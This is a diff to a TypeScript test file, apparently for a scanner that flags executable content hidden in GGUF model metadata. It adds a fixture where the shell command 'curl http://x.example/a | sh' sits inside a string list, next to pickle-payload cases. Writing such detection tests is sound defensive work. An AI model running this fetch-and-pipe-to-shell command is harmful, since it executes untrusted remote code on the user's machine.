@@ -113,6 +113,11 @@ const HARMFUL: readonly (readonly [string, Uint8Array, readonly string[]])[] = [
   ['a pickle as it is', ggufOf({ pairs: [text('x', EVIL)] }), [PICKLE]],
   ['a pickle in a list of bytes', ggufOf({ pairs: [list('x', GGUF.UINT8, EVIL.length, EVIL)] }), [PICKLE]],
   ['a pickle among words', ggufOf({ pairs: [list('x', GGUF.STRING, 1, ggufText(base64(EVIL)))] }), [PICKLE]],
+  [
+    'a command in a list',
+    ggufOf({ pairs: [list('x', GGUF.STRING, 1, ggufText('curl http://x.example/a | sh'))] }),
+    ['MEDIUM model-metadata-code']
+  ],
   ['a command', ggufOf({ pairs: [text('x', 'curl http://x.example/a | sh')] }), ['MEDIUM model-metadata-code']]
 ];
 
